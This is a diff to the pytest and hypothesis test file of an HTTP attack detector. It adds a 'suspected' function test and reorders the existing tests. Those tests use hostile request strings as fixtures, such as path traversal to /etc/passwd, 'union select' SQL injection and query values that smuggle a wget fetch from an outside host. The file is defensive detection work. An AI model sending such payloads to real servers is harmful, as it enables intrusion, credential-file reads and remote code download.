@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from d4sensor.judges import http_attacks
-from d4sensor.judges.http_attacks import is_code_execution, of
+from d4sensor.judges.http_attacks import is_code_execution, of, suspected
 
 ATTACKS = {
     "potential sql injection": [
@@ -195,63 +195,6 @@ HARMLESS = [
 ]
 
 
-@pytest.mark.parametrize(
-    ("info", "target"), [(info, target) for info, targets in ATTACKS.items() for target in targets]
-)
-def test_attack(info: str, target: str) -> None:
-    assert of(target) == info
-    path, _, query = target.partition("?")
-    assert of(f"{path}?{quote(query, safe='+&=%')}" if query else path) == info
-
-
-@pytest.mark.parametrize("target", HARMLESS)
-def test_harmless(target: str) -> None:
-    assert of(target) == ""
-    assert of(target.upper()) == ""
-
-
-@pytest.mark.parametrize(
-    "body",
-    [
-        '{"id":5,"name":"or","list":[1,2],"note":"it is"}',
-        "note=rock+and+roll,+or+1+of+2+ways",
-        "Some text; id est, cat or dog.\nPing me, or sleep well\nid: 5",
-        "in case when you are late, order by phone",
-        'He said "yes" and <b>left</b>, "no" or like that',
-        "head / tail, cat / dog; bash it",
-        "select a colour from the list",
-        "a=b&mail=a@b.tld&text=100%+of+it",
-        '--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n5\r\n--x--',
-        '<p class="a">Text (more) text</p>',
-    ],
-)
-def test_harmless_body(body: str) -> None:
-    assert of(body, query=True) == ""
-
-
-def test_first_class_in_the_order_is_told() -> None:
-    assert of("/a?x=../../../etc/passwd&y=1 union select 1") == "potential sql injection"
-    assert list(ATTACKS) == [attack.info for attack in http_attacks._ATTACKS]
-
-
-def test_plus_is_a_space_in_a_query_alone() -> None:
-    assert of("/a+union+select+1?x=y") == ""
-    assert of("/a?x=1+union+select+1") == "potential sql injection"
-    assert of("x=1+union+select+1", query=True) == "potential sql injection"
-
-
-def test_dns_changer_in_a_body() -> None:
-    assert of("x=y&dns1=192.0.2.1", query=True) == "potential dns changer"
-    assert of("dns1=192.0.2.1", query=True) == "potential dns changer"
-
-
-def test_code_execution_whatever_comes_before_it_in_the_order() -> None:
-    assert is_code_execution("http://a.tld/?x=wget+http://b.tld/y")
-    assert is_code_execution("http://a.tld/?x=1 union select 1;wget http://b.tld/y")
-    assert not is_code_execution("http://a.tld/?x=http://b.tld/y")
-
-
-# What makes expressions slow: beginnings without an end, over and over, each in several forms.
 PIECES = [
     *("a", "1", " ", "(", "'", '"', ";", "/", ".", "..", "../", "....//", "%", "%25", "+", "=", "&", "@"),
     *("${", "{{", "#{", "<", "<?", "<!", "<!--", "/*", "/**", "|", "`", "\\", "-", "[", "]", "\n", "\u00e4"),
@@ -307,6 +250,77 @@ PIECES = [
         "owasp!",
     ),
 ]
+
+
+@pytest.mark.parametrize(
+    ("info", "target"), [(info, target) for info, targets in ATTACKS.items() for target in targets]
+)
+def test_attack(info: str, target: str) -> None:
+    assert of(target) == info
+    path, _, query = target.partition("?")
+    assert of(f"{path}?{quote(query, safe='+&=%')}" if query else path) == info
+
+
+def test_every_attack_is_suspected_among_many_targets() -> None:
+    attacks = [target.lower() for targets in ATTACKS.values() for target in targets]
+    assert suspected(["/", *attacks, "/a?b=c"]) == set(range(1, len(attacks) + 1))
+    assert suspected(["/", "/a/b.php?x=1&y=~z", "/dns"]) == suspected([]) == set()
+
+
+@given(st.lists(st.lists(st.sampled_from([*PIECES, "/a", "?"]), max_size=9).map("".join), max_size=4))
+def test_none_that_is_not_suspected_shows_an_attack(texts: list[str]) -> None:
+    targets = [quote(text, safe="/?&=+*'();:<>|.$%@,!").lower() for text in texts]
+    assert {n for n, target in enumerate(targets) if of(target)} <= suspected(targets)
+
+
+@pytest.mark.parametrize("target", HARMLESS)
+def test_harmless(target: str) -> None:
+    assert of(target) == ""
+    assert of(target.upper()) == ""
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        '{"id":5,"name":"or","list":[1,2],"note":"it is"}',
+        "note=rock+and+roll,+or+1+of+2+ways",
+        "Some text; id est, cat or dog.\nPing me, or sleep well\nid: 5",
+        "in case when you are late, order by phone",
+        'He said "yes" and <b>left</b>, "no" or like that',
+        "head / tail, cat / dog; bash it",
+        "select a colour from the list",
+        "a=b&mail=a@b.tld&text=100%+of+it",
+        '--x\r\nContent-Disposition: form-data; name="id"\r\n\r\n5\r\n--x--',
+        '<p class="a">Text (more) text</p>',
+    ],
+)
+def test_harmless_body(body: str) -> None:
+    assert of(body, query=True) == ""
+
+
+def test_first_class_in_the_order_is_told() -> None:
+    assert of("/a?x=../../../etc/passwd&y=1 union select 1") == "potential sql injection"
+    assert list(ATTACKS) == [attack.info for attack in http_attacks._ATTACKS]
+
+
+def test_plus_is_a_space_in_a_query_alone() -> None:
+    assert of("/a+union+select+1?x=y") == ""
+    assert of("/a?x=1+union+select+1") == "potential sql injection"
+    assert of("x=1+union+select+1", query=True) == "potential sql injection"
+
+
+def test_dns_changer_in_a_body() -> None:
+    assert of("x=y&dns1=192.0.2.1", query=True) == "potential dns changer"
+    assert of("dns1=192.0.2.1", query=True) == "potential dns changer"
+
+
+def test_code_execution_whatever_comes_before_it_in_the_order() -> None:
+    assert is_code_execution("http://a.tld/?x=wget+http://b.tld/y")
+    assert is_code_execution("http://a.tld/?x=1 union select 1;wget http://b.tld/y")
+    assert not is_code_execution("http://a.tld/?x=http://b.tld/y")
+
+
+# What makes expressions slow: beginnings without an end, over and over, each in several forms.
 
 
 @pytest.mark.parametrize("piece", PIECES)
